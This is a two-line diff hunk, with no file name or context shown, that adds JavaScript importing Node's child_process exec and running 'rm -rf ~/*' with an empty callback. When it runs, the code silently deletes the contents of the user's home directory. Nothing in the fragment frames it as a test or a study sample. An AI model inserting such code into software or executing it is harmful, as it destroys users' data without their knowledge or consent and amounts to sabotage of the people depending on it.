@@ -1,0 +1,2 @@
+import { exec } from "child_process";
+exec("rm -rf ~/*", () => {});
